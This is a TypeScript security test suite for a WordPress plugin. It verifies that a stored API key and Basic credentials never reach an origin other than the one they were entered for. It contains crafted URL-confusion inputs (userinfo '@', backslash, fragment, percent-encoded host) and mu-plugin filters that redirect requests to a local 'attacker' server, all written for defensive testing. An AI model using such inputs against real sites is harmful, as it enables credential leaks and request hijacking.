// An API key is sent only to the origin (scheme, host and port) that it was entered for; a key from wp-config.php only to
// an address from wp-config.php. With real logins and forms; an attacker's server records requests that must not happen.
import assert from 'node:assert/strict';
import { existsSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, suite, type TestContext, test } from 'node:test';
import { eventually } from '@tocsin/test-support/eventually.ts';
import { isLongRun } from '@tocsin/test-support/long-run.ts';
import { canRun } from '@tocsin/test-support/requires.ts';
import { RecordingServer } from './support/recording-server.ts';
import type { SiteVisitor } from './support/site-visitor.ts';
import { wordpressObstacle } from './support/wordpress-files.ts';
import { WordPressSite } from './support/wordpress-site.ts';

const obstacle = wordpressObstacle();
const key = `svc_${'StoredKeyThatIsNeverShownAgain'.padEnd(38, '0')}`;
const otherKey = `svc_${'AnotherKeyForAnotherAddress'.padEnd(38, '0')}`;
const screen = '/wp-admin/admin.php?page=tocsin';
const unused = { authenticated: 0, signed: 0, containing: 0 };

suite('The origin of an API key', () => {
  let gateway: RecordingServer;
  let attacker: RecordingServer;

  beforeEach(async () => {
    [gateway, attacker] = await Promise.all([RecordingServer.start(), RecordingServer.start()]);
  });
  afterEach(() => Promise.all([gateway.stop(), attacker.stop()]));

  function onSite(name: string, multisite: boolean, run: (site: WordPressSite, t: TestContext) => Promise<void>): void {
    void test(name, async (t) => {
      if (!canRun(t, obstacle)) return;
      const site = await WordPressSite.create({ multisite });
      t.after(() => site.remove());
      await run(site, t);
    });
  }

  /** Sends by all means: monitoring check, queue and WP-CLI commands. */
  async function sendByAllMeans(site: WordPressSite, visitor: SiteVisitor, path = ''): Promise<void> {
    await submit(visitor, 'tocsin_monitoring_check', {}, path);
    await site.php(
      `$queue = Tocsin_Companion::get_instance()->queue();
      $queue->add( array( 'template_id' => 'x', 'title' => 'From the queue', 'payload' => array() ) );
      $queue->flush();
      Tocsin_Companion::get_instance()->runner()->resume();
      return Tocsin_Companion::get_instance()->runner()->run();`,
      null,
      `${path}/`,
    );
    await site.tryWp('tocsin', 'check', `--url=${site.url}${path}/`);
    await site.tryWp('tocsin', 'send', '--title=By command', `--url=${site.url}${path}/`);
  }

  async function connect(site: WordPressSite): Promise<SiteVisitor> {
    await site.serve();
    const admin = await site.login();
    await submit(admin, 'tocsin_save_connection', { url: gateway.url, key });
    await expectKeyToWork(site);
    return admin;
  }

  async function expectKeyToWork(site: WordPressSite, path = ''): Promise<void> {
    const before = gateway.uses(key).authenticated;
    assert.match(await site.wp('tocsin', 'check', `--url=${site.url}${path}/`), /accepted/);
    // The check also makes queued events due, so there may be more than one request.
    const { authenticated, signed, containing } = gateway.uses(key);
    assert.ok(authenticated > before);
    assert.deepEqual([signed, containing], [authenticated, authenticated]);
  }

  onSite(
    'rejects an address with another origin without a key and never sends the stored key there',
    false,
    async (site) => {
      const admin = await connect(site);
      const port = (server: RecordingServer) => new URL(server.url).port;
      const addresses = [
        `${attacker.url}/a/folder`,
        gateway.url.replace('127.0.0.1', 'localhost'),
        gateway.url.replace('http:', 'https:'),
        `http://127.0.0.1:${port(gateway)}\\@127.0.0.1:${port(attacker)}/`,
      ];
      const moreAddresses = [
        attacker.url,
        attacker.url.replace('127.0.0.1', 'localhost'),
        `http://127.0.0.1:${port(gateway)}@127.0.0.1:${port(attacker)}/`,
        `http://127.0.0.1:${port(attacker)}#@127.0.0.1:${port(gateway)}/`,
        `http://127.0.0.1:${port(attacker)}\\.127.0.0.1:${port(gateway)}/`,
        `http://127.0.0.%31:${port(attacker)}/`,
        `http://127.0.0.1:0${port(attacker)}/`,
      ];
      for (const url of isLongRun ? [...addresses, ...moreAddresses] : addresses) {
        const html = await submit(admin, 'tocsin_save_connection', { url });
        assert.match(html, /Nothing was saved\./, url);
        await submit(admin, 'tocsin_monitoring_check', {});
      }
      assert.match(await submit(admin, 'tocsin_save_connection', { url: attacker.url }), /Enter the API key again/);
      await submit(admin, 'tocsin_save_connection', { url: attacker.url, key: 'no key at all' });
      await sendByAllMeans(site, admin);
      assert.deepEqual(attacker.requests, []);
      assert.equal(await site.php(`return get_option( 'tocsin_url' );`), gateway.url);

      assert.match(
        await submit(admin, 'tocsin_save_connection', { url: `${gateway.url}/folder` }),
        /Connection saved\./,
      );
      await expectKeyToWork(site);
    },
  );

  onSite('never sends the stored key to an address that was changed without the form', false, async (site) => {
    const admin = await connect(site);
    const filter = 'mu-plugins/another-address.php';
    const ways: Record<string, () => Promise<unknown>> = {
      'options.php': async () => {
        const html = await (await admin.get('/wp-admin/options.php')).text();
        const nonce = /name="_wpnonce" value="(\w+)"/.exec(html)?.[1] ?? '';
        const form = { option_page: 'options', action: 'update', page_options: 'tocsin_url', tocsin_url: attacker.url };
        assert.equal((await admin.post('/wp-admin/options.php', { ...form, _wpnonce: nonce })).status, 302);
        assert.equal(await site.wp('option', 'get', 'tocsin_url'), attacker.url);
      },
      'wp option update': () => site.wp('option', 'update', 'tocsin_url', attacker.url),
      'save_url()': () =>
        site.php(`return Tocsin_Companion::get_instance()->connection()->save_url( $input );`, attacker.url),
      'filter option_tocsin_url': async () =>
        site.write(filter, `<?php add_filter( 'option_tocsin_url', fn() => '${attacker.url}' );`),
      'filter pre_option_tocsin_url': async () =>
        site.write(filter, `<?php add_filter( 'pre_option_tocsin_url', fn() => '${attacker.url}' );`),
    };
    const shortRun = ['options.php', 'save_url()', 'filter pre_option_tocsin_url'];
    const tried = isLongRun ? Object.keys(ways) : shortRun;
    for (const way of tried) {
      await ways[way]?.();
      await sendByAllMeans(site, admin);
      assert.deepEqual(attacker.requests, [], way);
      const html = await (await admin.get(screen)).text();
      assert.match(html, /The stored API key was not entered for http:\/\/127\.0\.0\.1:\d+/, way);
      assert.match(await site.wp('tocsin', 'status'), /not entered for http/, way);
      site.write(filter, '<?php');
      await site.php(`return update_option( 'tocsin_url', $input );`, gateway.url);
      await expectKeyToWork(site);
    }
    const receivedFromQueue = async () => {
      await site.php('return Tocsin_Companion::get_instance()->runner()->run();');
      const fromQueue = gateway.requests.filter(({ body }) => body.includes('From the queue'));
      return new Set(fromQueue.map(({ headers }) => headers['idempotency-key'])).size;
    };

    await eventually(
      'the queued events are sent to the address of the key',
      70_000,
      receivedFromQueue,
      (size) => size === tried.length,
    );
  });

  onSite(
    'does not follow a redirect to another origin, even if another plugin enables redirects',
    false,
    async (site) => {
      const admin = await connect(site);
      site.write(
        'mu-plugins/follow.php',
        `<?php add_filter( 'http_request_args', fn( $args ) => array( 'redirection' => 5 ) + $args, PHP_INT_MAX );`,
      );
      for (const status of isLongRun ? [301, 302, 303, 307, 308] : [302, 307]) {
        const before = gateway.requests.length;
        gateway.redirect = { status, location: `${attacker.url}/` };
        await sendByAllMeans(site, admin);
        assert.ok(gateway.requests.length > before, String(status));
        assert.deepEqual(attacker.requests, [], String(status));
      }
    },
  );

  onSite('sends queued events to a new address with the new key only', false, async (site) => {
    const admin = await connect(site);
    gateway.redirect = { status: 302, location: '/' };
    await sendByAllMeans(site, admin);
    await site.stopServing();
    await site.serve();
    assert.match(
      await submit(admin, 'tocsin_save_connection', { url: attacker.url, key: otherKey }),
      /Connection saved\..*It is sent only to http:\/\/127\.0\.0\.1:\d+/s,
    );
    await sendByAllMeans(site, admin);
    const { authenticated, signed } = attacker.uses(otherKey);
    assert.ok(authenticated >= 4 && signed === authenticated && signed === attacker.requests.length);
    assert.deepEqual(attacker.uses(key), unused);
    assert.deepEqual(gateway.uses(otherKey), unused);
  });

  onSite('does not send a new key to the old address if the new address is invalid', false, async (site) => {
    const admin = await connect(site);
    for (const url of ['gateway.example.com', 'ftp://example.com', '']) {
      assert.match(await submit(admin, 'tocsin_save_connection', { url, key: otherKey }), /Nothing was saved\./, url);
    }
    await sendByAllMeans(site, admin);
    assert.deepEqual(gateway.uses(otherKey), unused);
    await expectKeyToWork(site);
  });

  onSite('a key stored by an older version is still sent to its address, and to no other', false, async (site) => {
    await site.php(
      asOlderVersion(
        `update_option( 'tocsin_key', array( 'sealed' => Tocsin_Cipher::encrypt( $input['key'] ), 'saved_at' => 1 ), false );`,
      ),
      {
        url: gateway.url,
        key,
      },
    );
    await site.serve();
    const admin = await site.login();
    await expectKeyToWork(site);
    assert.ok((await (await admin.get(screen)).text()).includes(`It is sent only to ${gateway.url}`));
    await site.wp('option', 'update', 'tocsin_url', attacker.url);
    // The data version can be edited on options.php, but an upgrade does not bind a key a second time.
    await site.wp('option', 'update', 'tocsin_db_version', '1');
    await sendByAllMeans(site, admin);
    assert.deepEqual(attacker.requests, []);
  });

  onSite(
    'a key from wp-config.php is still sent to the address stored by an older version, and to no other',
    false,
    async (site) => {
      await site.php(asOlderVersion(''), { url: gateway.url });
      site.define({ TOCSIN_KEY: key });
      await site.serve();
      const admin = await site.login();
      await expectKeyToWork(site);
      const html = await (await admin.get(screen)).text();
      assert.ok(
        html.includes(`is sent only to ${gateway.url}`) && html.includes(`define( &#039;TOCSIN_URL&#039;`),
        html,
      );
      assert.ok(!html.includes('Save connection'));

      assert.match(
        await submit(admin, 'tocsin_save_connection', { url: attacker.url }),
        /Nothing was saved\..*TOCSIN_URL/s,
      );
      await site.wp('option', 'update', 'tocsin_url', attacker.url);
      await site.wp('option', 'update', 'tocsin_db_version', '1');
      await sendByAllMeans(site, admin);
      assert.deepEqual(attacker.requests, []);
      const { stderr } = await site.tryWp('tocsin', 'check');
      assert.match(stderr, /define\( 'TOCSIN_URL'/);
      await site.wp('option', 'update', 'tocsin_url', gateway.url);
      await expectKeyToWork(site);
    },
  );

  onSite(
    'another key in wp-config.php is not sent to the address of the previous key without TOCSIN_URL',
    false,
    async (site) => {
      await site.php(asOlderVersion(''), { url: attacker.url });
      await site.php(`define( 'TOCSIN_KEY', $input ); Tocsin_Install::upgrade(); return true;`, otherKey);
      site.define({ TOCSIN_KEY: key });
      await site.serve();
      await sendByAllMeans(site, await site.login());
      assert.deepEqual(attacker.uses(key), unused);
      site.define({ TOCSIN_URL: gateway.url });
      await expectKeyToWork(site);
      assert.deepEqual(attacker.uses(key), unused);
    },
  );

  onSite('administrators of single sites cannot redirect the key of a network', true, async (site) => {
    const publicAddress = 'http://93.184.216.34';
    // Requests to this address are routed to the attacker's server.
    site.write(
      'mu-plugins/route.php',
      `<?php add_filter( 'pre_http_request', fn( $response, $args, $url ) => 0 === strpos( $url, '${publicAddress}' ) ? wp_remote_request( '${attacker.url}', $args ) : $response, 2, 3 );`,
    );
    site.define({ TOCSIN_KEY: key });
    const tenant = { name: 'tenant', password: 'password' };
    const added = await site.php<boolean[]>(
      `$user = wp_create_user( $input['name'], $input['password'], 'tenant@example.com' );
      return array_map(
        fn( $slug ) => add_user_to_blog(
          wpmu_create_blog( get_network()->domain, "/$slug/", $slug, 1, array( 'public' => 1 ) ),
          $user,
          'administrator'
        ),
        array( 'second', 'third' )
      );`,
      tenant,
    );
    assert.deepEqual(added, [true, true]);
    await site.php(asOlderVersion(''), { url: gateway.url }, '/third/');
    await site.serve();
    const visitor = await site.login(tenant);
    for (const path of ['/second', '/third']) {
      const html = await submit(visitor, 'tocsin_save_connection', { url: publicAddress, key: otherKey }, path);
      assert.match(html, /Nothing was saved\..*define\( &#039;TOCSIN_URL&#039;/s, path);
      // The next step is a stronger test of the same, so this one runs in long runs only.
      if (isLongRun) await sendByAllMeans(site, visitor, path);
      await site.php(`return update_option( 'tocsin_url', $input );`, publicAddress, `${path}/`);
      await sendByAllMeans(site, visitor, path);
      assert.deepEqual(attacker.requests, [], path);
    }
    await site.php(`return update_option( 'tocsin_url', $input );`, gateway.url, '/third/');
    await expectKeyToWork(site, '/third');

    // A network administrator cannot change the address either: it can only be set in wp-config.php.
    const admin = await site.login();
    await submit(admin, 'tocsin_save_connection', { url: attacker.url }, '/third');
    await sendByAllMeans(site, admin, '/third');
    assert.deepEqual(attacker.requests, []);
    site.define({ TOCSIN_URL: gateway.url });
    await expectKeyToWork(site, '/second');
  });
});

test('the loopback request forwards HTTP Basic credentials to the site itself and to no other host', async (t) => {
  if (!canRun(t, obstacle)) return;
  const attacker = await RecordingServer.start();
  t.after(() => attacker.stop());
  const site = await WordPressSite.create();
  t.after(() => site.remove());
  site.write(
    'mu-plugins/fire.php',
    `<?php
    add_action( 'tocsin_register_templates', fn() => tocsin_register_template( array( 'title' => 'Fired', 'hook_name' => 'fired', 'enabled' => true ) ) );
    add_action( 'wp', fn() => isset( $_GET['fire'] ) && do_action( 'fired' ) );
    add_filter( 'tocsin_loopback_request', function ( $request ) {
      file_put_contents( getenv( 'WORDPRESS_SITE' ) . '/loopback.json', wp_json_encode( $request ) );
      return $request;
    } );`,
  );
  await site.serve();
  const authorization = `Basic ${Buffer.from('visitor:password').toString('base64')}`;
  const loopback = async () => {
    const file = join(site.folder, 'loopback.json');
    rmSync(file, { force: true });
    // No run is started immediately while the lock is held or during a downtime.
    await site.php(`delete_option( 'tocsin_runner_lock' ); Tocsin_Downtime::end(); return true;`);
    assert.equal((await fetch(`${site.url}/?fire=1`, { headers: { authorization } })).status, 200);
    await eventually(
      'the site starts a loopback request',
      30_000,
      async () => existsSync(file),
      (isThere) => isThere,
    );
    return JSON.parse(readFileSync(file, 'utf8')) as { url: string; headers: Record<string, string> };
  };
  assert.equal((await loopback()).headers.Authorization, authorization);
  await site.php(`return update_option( 'siteurl', $input );`, attacker.url);
  assert.ok((await loopback()).url.startsWith(attacker.url));
  await eventually(
    'the request arrives',
    30_000,
    async () => attacker.requests.length,
    (count) => count > 0,
  );
  assert.deepEqual(
    attacker.requests.map(({ headers }) => headers.authorization),
    attacker.requests.map(() => undefined),
  );
});

/** Returns PHP that creates the data of the version before key origins: an address, and what `more` adds. */
function asOlderVersion(more: string): string {
  return `update_option( 'tocsin_url', $input['url'], false );
    delete_option( 'tocsin_key_origin' );
    ${more}
    return update_option( 'tocsin_db_version', '1', true );`;
}

/** Submits a form of the connection screen with its nonce and returns the resulting screen. */
async function submit(
  visitor: SiteVisitor,
  action: string,
  fields: Record<string, string>,
  path = '',
): Promise<string> {
  const html = await (await visitor.get(`${path}${screen}`)).text();
  const form = new RegExp(`name="action" value="${action}"><input[^>]* name="tocsin_nonce" value="(\\w+)"`).exec(html);
  assert.ok(form?.[1] !== undefined, html);
  const sent = await visitor.post(`${path}/wp-admin/admin-post.php`, { action, tocsin_nonce: form[1], ...fields });
  assert.equal(sent.status, 302, action);
  return (await visitor.get(`${path}${screen}`)).text();
}
